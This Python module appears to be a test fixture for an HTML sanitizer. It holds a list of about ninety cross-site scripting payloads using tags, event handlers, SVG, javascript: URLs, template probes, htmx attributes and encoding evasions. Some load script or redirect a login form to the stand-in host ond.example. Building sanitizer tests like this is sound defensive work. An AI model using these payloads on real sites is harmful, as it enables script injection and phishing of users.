"""What people write who want a page to do something: shapes of script injection, each written for this corpus.

Whatever ran would ask `alert(1)` or fetch from `ond.example`; none holds anything that identifies somebody.
"""

MARKS = (
    # Plain tags, whole, broken and nested.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//ond.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script/x>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<base href=//ond.example/>",
    '<meta http-equiv=refresh content="0;url=//ond.example/">',
    "<link rel=stylesheet href=//ond.example/a.css>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=//ond.example/a.swf>",
    "<form action=//ond.example/><button>Log ind</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex type=image src=x onerror=alert(1)>",
    # Event handlers, in and out of attributes.
    "<img src=x onerror=alert(1)>",
    '<img src=x:x onerror="alert(1)"',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>hej</marquee>",
    '<div style="animation:x 1s" onanimationstart=alert(1)>',
    "<a autofocus tabindex=0 onfocus=alert(1)>hej</a>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    "x\tonmouseover=alert(1)",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>hej</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    # Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[tryk her](javascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    'https://ond.example/"onmouseover="alert(1)',
    "https://ond.example/'><script>alert(1)</script>",
    "//ond.example/desk/",
    "/desk/\\ond.example",
    "/desk/..//ond.example",
    "https:ond.example",
    "\\\\ond.example\\x",
    # Templates and attributes of the libraries in use.
    "{{7*7}}",
    "{% include 'desk/base.html' %}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "<b hx-get=//ond.example/ hx-trigger=load>",
    '<b hx-on:load="alert(1)" data-hx-on--load="alert(1)">',
    '<hx-partial hx-target="#state">Du har samtalen.</hx-partial>',
    "data: signed-out\n\nevent: over\ndata: x",
    # Written otherwise.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)\N{FULLWIDTH LESS-THAN SIGN}/script>",
    "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\N{ZERO WIDTH SPACE}script>alert(1)</script>",
    "<img\N{NO-BREAK SPACE}src=x onerror=alert(1)>",
    "\N{RIGHT-TO-LEFT OVERRIDE}<gmi crs=x rorreno=trela(1)>",
    "\N{ARABIC LETTER ALEF}" * 300 + "<b>hej</b>",
    "e" + "\N{COMBINING ACUTE ACCENT}" * 200,
    "<b>" * 300,
    "\N{LINE SEPARATOR}alert(1)//\N{PARAGRAPH SEPARATOR}",
    "\N{ZERO WIDTH NO-BREAK SPACE}<script>alert(1)</script>",
)


def packed(bound: int) -> list[str]:
    """The marks, as many together as fit into so many characters and filled up to that; a longer one is cut."""
    together = [""]
    for mark in MARKS:
        if len(together[-1]) + len(mark) > bound:
            together.append("")
        together[-1] += mark[:bound]
    return [marks.ljust(bound, "x") for marks in together if marks]
